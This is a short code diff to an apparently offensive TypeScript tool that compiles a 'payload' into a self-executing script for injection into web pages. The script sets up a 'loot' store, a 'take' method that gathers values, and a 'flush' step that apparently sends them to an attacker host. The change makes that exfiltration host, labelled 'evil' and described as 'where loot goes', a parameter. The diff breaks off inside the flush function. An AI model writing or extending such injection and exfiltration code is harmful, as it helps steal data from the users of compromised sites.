@@ -13,13 +13,16 @@ export interface Kit {
 
 export type Payload = (kit: Kit) => unknown
 
-/** @param payload may use nothing but its kit and the page: it travels as text */
-export function compile(payload: Payload, params: Readonly<Record<string, string>> = {}): string {
+/**
+ * @param payload may use nothing but its kit and the page: it travels as text
+ * @param evil where loot goes
+ */
+export function compile(payload: Payload, params: Readonly<Record<string, string>> = {}, evil: string = EVIL): string {
   return `(() => {
   const native = window.fetch.bind(window)
   const loot = Object.create(null)
   const kit = {
-    evil: ${JSON.stringify(EVIL)},
+    evil: ${JSON.stringify(evil)},
     params: ${JSON.stringify(params)},
     take(kind, value) { if (value !== undefined && value !== null && value !== '') loot[kind] = String(value) },
     async flush() {
